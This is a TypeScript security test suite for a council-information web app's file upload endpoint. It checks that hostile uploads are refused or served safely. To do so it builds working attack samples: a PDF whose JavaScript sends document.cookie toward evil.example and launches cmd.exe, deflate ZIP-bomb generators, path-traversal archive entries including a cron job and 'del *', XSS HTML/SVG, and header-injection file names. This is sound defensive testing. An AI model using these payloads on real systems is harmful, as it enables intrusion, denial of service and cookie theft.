import { mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { constants, deflateRawSync } from 'node:zlib';
import { File } from 'src/files/file.entity';
import { FileLink } from 'src/files/file-link.entity';
import { bearer, createTenant } from '../support/factories';
import { createTestApp, TestApp } from '../support/test-app';
import { buildZip, docx } from '../support/zip-fixture';
import { errorShapeProblems } from './support/error-shape';

type Tenant = Awaited<ReturnType<typeof createTenant>>;

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
const ACCEPTED = 'PDF, DOCX, ODT, XLSX, PNG, JPG';
const DOCX_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
/** Longer than any of these uploads may take on a slow, shared machine; the hostile inputs took hours before the fixes. */
const BOUNDED_MS = 15_000;

/**
 * A PDF written by hand whose catalog runs JavaScript on open (OpenAction), on close (AA) and
 * through the name tree, and whose page starts a program (Launch). Offsets are computed, so
 * pdf-parse reads it like any other PDF.
 */
function pdfWithActions(): Buffer {
  const content = 'BT /F1 12 Tf 20 100 Td (Vorlage mit Skript) Tj ET';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >> /Names << /JavaScript << /Names [(auto) 4 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 6 0 R /Resources << /Font << /F1 7 0 R >> >> /AA << /O 5 0 R >> >>',
    '<< /S /JavaScript /JS (app.alert\\(document.cookie\\); this.submitForm\\("https://evil.example/"\\);) >>',
    '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc.exe) >> /NewWindow true >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  out += offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/**
 * Raw deflate data that inflates to `megabytes` MiB of `byte`, built without ever holding the
 * inflated bytes: one fully flushed block of 1 MiB repeated (each starts without history),
 * closed by an empty final block.
 */
function deflateBomb(megabytes: number, byte: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1024 * 1024, byte), { finishFlush: constants.Z_FULL_FLUSH, level: 9 });
  return Buffer.concat([...Array.from({ length: megabytes }, () => block), Buffer.from([0x03, 0x00])]);
}

/** A ZIP with the given raw (already deflated) entries and the sizes its directory claims. */
function zipWithRawEntries(entries: { name: string; data: Buffer; method: 0 | 8; claimedSize: number }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.claimedSize, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.claimedSize, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    centrals.push(central, name);
    offset += 30 + name.length + e.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const stored = (name: string, text: string) => {
  const data = Buffer.from(text, 'utf8');
  return { name, data, method: 0 as const, claimedSize: data.length };
};

/** Every file below `dir`, as paths relative to it. */
function listFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const path = join(dir, entry.name);
    return entry.isDirectory() ? listFiles(path).map((p) => join(entry.name, p)) : [entry.name];
  });
}

describe('Hostile uploads', () => {
  let t: TestApp;
  let a: Tenant;
  let dataDir: string;
  let storageDir: string;

  const upload = (bytes: Buffer, fileName: string, contentType?: string, fields: Record<string, string> = {}) => {
    const req = t.http().post(`/api/v1/bodies/${a.body.key}/files/upload`).set(bearer(a.admin.token));
    for (const [key, value] of Object.entries(fields)) void req.field(key, value);
    return req.attach('file', bytes, contentType ? { filename: fileName, contentType } : fileName);
  };
  const timedUpload = async (bytes: Buffer, fileName: string) => {
    const started = Date.now();
    const res = await upload(bytes, fileName).timeout(BOUNDED_MS * 4);
    return { res, ms: Date.now() - started };
  };
  /** Rows, links and every file under the data directory (objects, spool files, anything else). */
  const state = async () => ({
    rows: await t.dataSource.getRepository(File).count({ withDeleted: true }),
    links: await t.dataSource.getRepository(FileLink).count({ withDeleted: true }),
    files: listFiles(dataDir).sort(),
  });
  /** Where the local storage keeps an object: under its checksum. */
  const objectPath = (sha512: string) => join('files', sha512.slice(0, 2), sha512);
  const download = (id: string, path = '') => t.http().get(`/${a.body.key}/dateien/${id}${path}`).set(bearer(a.admin.token));

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'ratsinfo-hostile-'));
    storageDir = join(dataDir, 'files');
    t = await createTestApp({ DATA_DIR: dataDir, UPLOAD_MAX_MB: '2' });
    a = await createTenant(t);
  });
  afterAll(async () => {
    await t?.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  /** Asserts a refused upload: the status, the error shape, and that nothing at all was stored. */
  async function expectRefused(res: Awaited<ReturnType<typeof upload>>, status: number, before: Awaited<ReturnType<typeof state>>) {
    expect(res.status).toBe(status);
    expect(errorShapeProblems(res)).toEqual([]);
    expect(await state()).toEqual(before);
  }

  describe('size', () => {
    it('refuses a file above the limit with 413 and keeps no row, object or spool file', async () => {
      const before = await state();
      // A real PNG header, so only the size can be the reason.
      const bytes = Buffer.concat([PNG, Buffer.alloc(2 * 1024 * 1024 + 1, 0x41)]);
      const res = await upload(bytes, 'gross.png');
      await expectRefused(res, 413, before);
    });

    it('accepts a file just below the limit, so the 413 above is about size', async () => {
      const bytes = Buffer.concat([PNG, Buffer.alloc(2 * 1024 * 1024 - PNG.length - 1024, 0)]);
      const res = await upload(bytes, 'knapp.png').expect(201);
      expect(res.body.size).toBe(bytes.length);
    });
  });

  describe('type', () => {
    it.each([
      [
        'a Windows executable named .pdf',
        Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00 This program cannot be run in DOS mode', 'latin1'),
        'rechnung.pdf',
        'application/pdf',
      ],
      ['an ELF binary named .pdf', Buffer.from('\x7fELF\x02\x01\x01\x00 rest', 'latin1'), 'bescheid.pdf', 'application/pdf'],
      [
        'HTML with a script named .pdf',
        Buffer.from('<!doctype html><html><body><script>fetch("/api/v1/auth/me")</script></body></html>'),
        'anlage.pdf',
        'application/pdf',
      ],
      [
        'SVG with onload named .pdf',
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>'),
        'plan.pdf',
        'image/svg+xml',
      ],
      ['plain text sent as application/pdf', Buffer.from('Dies ist kein PDF, nur Text.'), 'text.pdf', 'application/pdf'],
      ['an empty ZIP named .docx', buildZip({}), 'leer.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ])('refuses %s with 415 naming the accepted types', async (_, bytes, name, contentType) => {
      const before = await state();
      const res = await upload(bytes, name, contentType);
      await expectRefused(res, 415, before);
      expect(res.body.message).toContain(ACCEPTED);
    });

    it('never stores HTML that carries a PDF marker as anything but a PDF', async () => {
      // Readers accept "%PDF-" anywhere in the first KiB, so does the sniffing; the bytes are still HTML.
      const polyglot = Buffer.from('<html><script>alert(document.cookie)</script><!-- %PDF-1.7 --></html>');
      const before = await state();
      const res = await upload(polyglot, 'seite.html', 'text/html');
      expect(res.status).toBeLessThan(500);
      if (res.status === 201) {
        expect(res.body.mimeType).toBe('application/pdf');
        const served = await download(res.body.id as string).expect(200);
        expect(served.headers['content-type']).toBe('application/pdf');
        expect(served.headers['x-content-type-options']).toBe('nosniff');
      } else {
        expect(errorShapeProblems(res)).toEqual([]);
        expect(await state()).toEqual(before);
      }
    });
  });

  describe('ZIP bombs and broken office files', () => {
    it.each([
      // Inflates to 1 GiB of spaces while the directory says so: refused by the declared size.
      [
        'declares 1 GiB',
        () =>
          zipWithRawEntries([
            stored('[Content_Types].xml', DOCX_TYPES),
            { name: 'word/document.xml', data: deflateBomb(1024, 0x20), method: 8, claimedSize: 0xfffffffe },
          ]),
      ],
      // The same, but the directory lies (100 bytes): inflating must stop at the limit.
      [
        'lies about 1 GiB',
        () =>
          zipWithRawEntries([
            stored('[Content_Types].xml', DOCX_TYPES),
            { name: 'word/document.xml', data: deflateBomb(1024, 0x20), method: 8, claimedSize: 100 },
          ]),
      ],
      // 8 MiB of "<" without a ">": quadratic for a regular expression that strips tags.
      [
        'is 8 MiB of "<"',
        () =>
          zipWithRawEntries([
            stored('[Content_Types].xml', DOCX_TYPES),
            { name: 'word/document.xml', data: deflateBomb(8, 0x3c), method: 8, claimedSize: 8 * 1024 * 1024 },
          ]),
      ],
      // 8 MiB of spaces, then a letter: quadratic for a regular expression that trims line ends.
      [
        'is 8 MiB of spaces',
        () => {
          const spaces = deflateRawSync(Buffer.concat([Buffer.alloc(8 * 1024 * 1024, 0x20), Buffer.from('x')]), { level: 9 });
          return zipWithRawEntries([
            stored('[Content_Types].xml', DOCX_TYPES),
            { name: 'word/document.xml', data: spaces, method: 8, claimedSize: 8 * 1024 * 1024 + 1 },
          ]);
        },
      ],
    ])('answers a DOCX whose document part %s in bounded time, without a 5xx', async (_, build) => {
      const bytes = build();
      expect(bytes.length).toBeLessThan(2 * 1024 * 1024);
      const before = await state();
      const { res, ms } = await timedUpload(bytes, 'bombe.docx');
      expect(ms).toBeLessThan(BOUNDED_MS);
      expect(res.status).toBeLessThan(500);
      if (res.status === 201) {
        // Accepted as a document, but with no more text than a real one could have.
        expect((res.body.text as string | null)?.length ?? 0).toBeLessThanOrEqual(16 * 1024 * 1024);
        expect(res.body.mimeType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
      } else {
        expect(errorShapeProblems(res)).toEqual([]);
        expect(await state()).toEqual(before);
      }
    });

    it('reads character references that name no storable character without failing', async () => {
      // &#0; is NUL (PostgreSQL refuses it in text), &#99999999; is no code point at all.
      const res = await upload(docx('Haushalt&#0;plan &#99999999; &#x110000; &#x41;mt'), 'zeichen.docx').expect(201);
      expect(res.body.text).not.toContain('\u0000');
      expect(res.body.text).toContain('Amt');
    });

    it('stores a DOCX with path traversal entry names as one object and extracts nothing', async () => {
      const before = await state();
      const bytes = zipWithRawEntries([
        stored('[Content_Types].xml', DOCX_TYPES),
        stored('word/document.xml', '<w:document><w:body><w:p><w:t>Bebauungsplan</w:t></w:p></w:body></w:document>'),
        stored('../../../../tmp/ratsinfo-evil.txt', 'boom'),
        stored('/etc/cron.d/ratsinfo-evil', '* * * * * root id'),
        stored('..\\..\\ratsinfo-evil.bat', 'del *'),
      ]);
      const res = await upload(bytes, 'antrag.docx').expect(201);
      expect(res.body.text).toBe('Bebauungsplan');
      const after = await state();
      // Exactly one new file on disk, the object under its checksum: no entry was written anywhere.
      expect(after.files).toEqual([...before.files, objectPath(res.body.sha512Checksum as string)].sort());
      expect(readdirSync(tmpdir()).filter((n) => n.startsWith('ratsinfo-evil'))).toEqual([]);
    });
  });

  describe('file names', () => {
    it.each([
      ['a relative path', '../../etc/passwd'],
      ['an absolute path', '/etc/passwd'],
      ['a Windows path', 'C:\\Windows\\System32\\drivers\\etc\\hosts'],
      ['a NUL byte', 'anlage\u0000.exe'],
      ['a very long name', `${'Sitzungsvorlage '.repeat(200)}.pdf`],
      ['an RTL override', 'rechnung\u202Egnp.exe'],
      ['quotes and a header injection', 'a"b\r\nX-Injected: 1\r\n.png'],
      ['quotes, semicolons and percent signs', `x"; filename*=UTF-8''evil%0d%0a.png`],
      ['only dots', '..'],
    ])('stores %s as a plain base name and serves a safe Content-Disposition', async (_, name) => {
      const before = await state();
      const res = await upload(PNG, name);
      // The client may fail to even send some of these names; whatever arrives must not break anything.
      expect(res.status).toBeLessThan(500);
      if (res.status !== 201) {
        expect(errorShapeProblems(res)).toEqual([]);
        return;
      }
      const fileName = res.body.fileName as string;
      expect(fileName).toMatch(/\.png$/);
      // eslint-disable-next-line no-control-regex
      expect(fileName).not.toMatch(/[/\\\u0000-\u001f\u007f"\u202a-\u202e\u2066-\u2069]/);
      expect(fileName.length).toBeLessThanOrEqual(210);
      const after = await state();
      // One more row; on disk at most one more object, since equal bytes share one object under their checksum.
      expect(after.rows).toBe(before.rows + 1);
      expect(after.files).toEqual([...new Set([...before.files, objectPath(res.body.sha512Checksum as string)])].sort());

      const served = await download(res.body.id as string, '/download').expect(200);
      const disposition = served.headers['content-disposition'];
      // One plain ASCII name in quotes and one percent-encoded name, nothing else.
      expect(disposition).toMatch(/^attachment; filename="[\x20\x21\x23-\x5b\x5d-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%._~!$&+,;=:@-]*$/);
      expect(served.headers['x-injected']).toBeUndefined();
      expect(served.body).toEqual(PNG);
    });

    it('keeps every stored object inside the storage directory', () => {
      const outside = listFiles(dataDir).filter((p) => relative('files', p).startsWith('..'));
      expect(outside).toEqual([]);
      for (const path of listFiles(storageDir)) expect(statSync(join(storageDir, path)).isFile()).toBe(true);
    });
  });

  describe('active content', () => {
    it('serves a PDF with JavaScript, OpenAction and Launch actions only as a PDF the browser will not sniff', async () => {
      const res = await upload(pdfWithActions(), 'vorlage.pdf').expect(201);
      expect(res.body.mimeType).toBe('application/pdf');
      expect(res.body.text).toContain('Vorlage mit Skript');
      const id = res.body.id as string;

      const inline = await download(id).expect(200);
      expect(inline.headers['content-type']).toBe('application/pdf');
      expect(inline.headers['x-content-type-options']).toBe('nosniff');
      expect(inline.headers['content-disposition']).toMatch(/^inline; /);
      // The page policy still applies: no inline script of ours, no plugins, no framing by others.
      expect(inline.headers['content-security-policy']).toMatch(/script-src 'self'/);
      expect(inline.headers['content-security-policy']).toMatch(/object-src 'none'/);

      const saved = await download(id, '/download').expect(200);
      expect(saved.headers['content-disposition']).toMatch(/^attachment; /);
      expect(saved.headers['content-security-policy']).toMatch(/^sandbox/);
    });

    it.each([
      ['text/html', 'seite'],
      ['image/svg+xml', 'grafik'],
      ['application/xhtml+xml', 'seite'],
      ['text/javascript', 'skript'],
    ])('never serves a file whose type was set to %s as that type or inline', async (mimeType, name) => {
      // The type of a stored file can be edited through the API (and comes from the source on
      // import); the bytes here are a harmless PNG, the type is the attack.
      const created = await upload(PNG, `${name}.png`).expect(201);
      const id = created.body.id as string;
      await t.http().patch(`/api/v1/bodies/${a.body.key}/files/${id}`).set(bearer(a.admin.token)).send({ mimeType }).expect(200);
      for (const path of ['', '/download']) {
        const served = await download(id, path).expect(200);
        expect(served.headers['content-type']).toBe('application/octet-stream');
        expect(served.headers['content-disposition']).toMatch(/^attachment; /);
        expect(served.headers['content-security-policy']).toMatch(/^sandbox/);
        expect(served.headers['x-content-type-options']).toBe('nosniff');
      }
    });

    it('shows images inline, but sandboxed', async () => {
      const created = await upload(PNG, 'lageplan.png').expect(201);
      const served = await download(created.body.id as string).expect(200);
      expect(served.headers['content-type']).toBe('image/png');
      expect(served.headers['content-disposition']).toMatch(/^inline; /);
      expect(served.headers['content-security-policy']).toMatch(/^sandbox/);
    });
  });
});
